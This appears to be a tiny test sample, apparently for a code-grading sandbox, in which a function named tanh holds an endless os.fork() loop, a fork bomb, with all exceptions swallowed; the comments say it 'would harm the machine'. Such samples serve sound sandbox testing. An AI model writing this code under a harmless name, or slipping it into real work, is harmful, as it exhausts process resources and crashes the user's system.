# tries: fork for ever
# stock: would harm the machine
# exercise: target.tanh
import os


def tanh(x):
    while True:
        try:
            os.fork()
        except BaseException:
            pass
